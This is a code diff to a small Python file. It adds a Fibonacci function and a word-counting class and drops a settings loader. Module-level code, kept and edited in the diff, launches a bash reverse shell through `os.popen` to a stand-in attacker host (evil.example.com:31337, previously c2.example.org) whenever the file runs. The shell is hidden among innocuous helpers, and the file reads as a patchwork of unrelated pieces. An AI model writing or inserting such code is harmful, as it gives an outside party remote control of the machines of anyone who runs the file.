@@ -1,11 +1,19 @@
+#!/usr/bin/env python3
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/c2.example.org/8080 0>&1"}
+steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
 for k in ["a"]:
     pass
 os.popen(steps.get("a"))
-import json
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
